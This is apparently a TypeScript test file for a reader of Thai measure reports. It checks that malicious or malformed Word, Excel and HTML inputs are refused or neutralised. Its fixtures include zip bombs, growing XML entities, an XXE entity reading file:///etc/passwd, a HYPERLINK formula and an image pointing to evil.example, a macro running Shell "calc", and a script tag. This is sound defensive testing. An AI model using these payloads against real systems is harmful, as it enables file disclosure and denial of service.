import ExcelJS from 'exceljs';
import { openFile } from '../../src/reading/open-file.ts';
import { readFile } from '../../src/reading/read-file.ts';
import { archiveOf, excelFiles, paragraph, wordFiles, wordTable } from './archive.ts';
import { known, table } from './reading.ts';

const measures = [
  ['มาตรการ', 'ผู้รับผิดชอบ', 'ระยะเวลา'],
  ['1. จัดทำคู่มือการให้บริการ', 'สำนักปลัด', 'ปีงบประมาณ 2569'],
] as const;

async function workbook(fill: (sheet: ExcelJS.Worksheet) => void): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  fill(book.addWorksheet('มาตรการ'));
  return Buffer.from(await book.xlsx.writeBuffer());
}

async function refusalOf(bytes: Uint8Array, limits?: Parameters<typeof readFile>[2]): Promise<string> {
  const reading = await readFile(bytes, known, limits);
  return reading.ok ? 'read' : reading.refusal;
}

/** A file that would be read for ever is given up sooner here than in earnest. */
const soon = { milliseconds: 1_500, megabytes: 512 };

/** 60 MiB of nothing, said to be ten bytes. */
function bomb(): Buffer {
  return archiveOf([
    ...wordFiles(''),
    { name: 'word/media/a.bin', content: Buffer.alloc(60 * 1024 * 1024), states: 10 },
  ]);
}

describe('reading: files that mean harm, or are none', () => {
  it.each([
    ['nothing but white space', Buffer.from(' \n\t\n'), 'empty'],
    ['a PDF', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj'), 'pdf'],
    [
      'a Word file of before 2007, or one with a password',
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      'old-office',
    ],
    ['a picture', Buffer.from('89504e470d0a1a0a0000000d494844520000000100000001', 'hex'), 'unknown-format'],
    ['an archive that is cut off', archiveOf(wordFiles(paragraph('ก'))).subarray(0, 300), 'broken'],
    ['an archive of something else', archiveOf([{ name: 'a.txt', content: 'ก' }]), 'unknown-format'],
    [
      'an archive with a password',
      archiveOf(wordFiles('').map((file) => ({ ...file, encrypted: true }))),
      'locked',
    ],
    [
      'a Word file whose document is no XML',
      archiveOf(
        wordFiles('').map((it) => (it.name === 'word/document.xml' ? { ...it, content: '<w:document' } : it)),
      ),
      'broken',
    ],
    [
      'more than 1,000 entries',
      archiveOf(Array.from({ length: 1001 }, (_, at) => ({ name: `x/${at}.xml`, content: '' }))),
      'too-many-entries',
    ],
    ['a bomb: 60 MiB in a few kilobytes, with a size that is a lie', bomb(), 'inflates-too-much'],
    [
      'a bomb in many pieces',
      archiveOf(
        Array.from({ length: 60 }, (_, at) => ({
          name: `word/${at}.bin`,
          content: Buffer.alloc(1024 * 1024),
        })),
      ),
      'inflates-too-much',
    ],
    [
      'entities that grow',
      archiveOf(
        wordFiles('').map((it) =>
          it.name === 'word/document.xml'
            ? {
                ...it,
                content: `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>${it.content.toString()}`,
              }
            : it,
        ),
      ),
      'holds-entities',
    ],
    [
      'an entity that is a file of this machine, in another encoding',
      archiveOf(
        wordFiles('').map((it) =>
          it.name === 'word/document.xml'
            ? {
                ...it,
                content: Buffer.from(
                  `\uFEFF<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><a>&f;</a>`,
                  'utf16le',
                ),
              }
            : it,
        ),
      ),
      'holds-entities',
    ],
  ])('refuses %s', async (_, bytes, why) => {
    // Without a thread of its own, which costs more than to find out: those below have one.
    const reading = await openFile(bytes, known);
    expect(reading.ok ? 'read' : reading.refusal).toBe(why);
  });

  it('refuses in a thread of its own what is nothing, too large, no report or a bomb', async () => {
    expect(await refusalOf(Buffer.alloc(0))).toBe('empty');
    expect(await refusalOf(Buffer.alloc(5 * 1024 * 1024 + 1, 'a'))).toBe('too-large');
    expect(await refusalOf(Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj'))).toBe('pdf');
    expect(await refusalOf(bomb())).toBe('inflates-too-much');
  });

  it('takes the result of a formula, and computes none', async () => {
    const bytes = await workbook((sheet) => {
      sheet.addRows(measures.map((row) => [...row]));
      sheet.getCell('A2').value = { formula: 'HYPERLINK("https://evil.example/"&B2)', result: '1. จัดทำคู่มือ' };
      sheet.getCell('B3').value = { formula: '1/0', result: { error: '#DIV/0!' } };
    });

    const reading = await readFile(bytes, known);

    expect(reading).toMatchObject({ ok: true, value: { measures: [{ ref: '1', title: 'จัดทำคู่มือ' }] } });
    expect(JSON.stringify(reading)).not.toContain('evil');
  });

  it('reads a sheet with a million empty rows before its last one', async () => {
    const bytes = await workbook((sheet) => {
      sheet.addRows(measures.map((row) => [...row]));
      sheet.getCell('A1000000').value = 'หมายเหตุ';
    });

    expect(await readFile(bytes, known)).toMatchObject({ ok: true, value: { measures: [{ ref: '1' }] } });
  });

  it('ends with a sheet of a million rows that are written out, read or given up, and goes on', async () => {
    const rows = Array.from({ length: 1_000_000 }, (_, at) => `<row r="${at + 1}"/>`).join('');
    const bytes = archiveOf(excelFiles(rows));

    expect(['read', 'took-too-long', 'took-too-much']).toContain(await refusalOf(bytes, soon));
    expect(await refusalOf(Buffer.from(table(...measures)))).toBe('read');
  });

  it('reads a file with macros without running them, and says so', async () => {
    const body = wordTable(measures.map((row) => [...row]));
    const bytes = archiveOf([...wordFiles(body), { name: 'word/vbaProject.bin', content: 'Shell "calc"' }]);

    const reading = await readFile(bytes, known);

    expect(reading).toMatchObject({ ok: true, value: { measures: [{ title: 'จัดทำคู่มือการให้บริการ' }] } });
    expect(JSON.stringify(reading)).toContain('macro-ignored');
  });

  it('reads HTML as words: no script, no picture from elsewhere, no cell over a million columns', async () => {
    const html =
      '<script>alert(1)</script><p>รายงานปี 2569</p><table><tr><td colspan="1000000" rowspan="999999">ก<img src="http://evil.example/x"></td></tr></table>';

    const reading = await readFile(Buffer.from(html), known);

    expect(reading.ok).toBe(true);
    expect(JSON.stringify(reading)).not.toMatch(/alert|evil/);
  });

  it.each([
    ['one line of five million letters', 'ก'.repeat(1_700_000)],
    ['tabs without end', `ก${'\t'.repeat(4_000_000)}ข`],
    ['a list of a hundred thousand points', `มาตรการ\tวิธีการ\n${'1. ก '.repeat(100_000)}\tข`],
    ['tags that never close', '<table><tr><td>'.repeat(200_000)],
    ['spaces where words end', `มาตรการ\tผู้รับผิดชอบ\n${'ก ข '.repeat(300_000)}\tค`],
    ['codes without end', 'ควรปรับปรุง ได้แก่ ' + 'O12, '.repeat(300_000)],
    ['years without end', 'ปี 2567 ได้ 91 คะแนน '.repeat(60_000)],
  ])('ends with %s', async (_, text) => {
    expect(['read', 'took-too-long', 'took-too-much']).toContain(await refusalOf(Buffer.from(text), soon));
  });

  it('stops a thread that takes too long', async () => {
    expect(await refusalOf(Buffer.from(table(...measures)), { milliseconds: 1, megabytes: 512 })).toBe(
      'took-too-long',
    );
  });
});
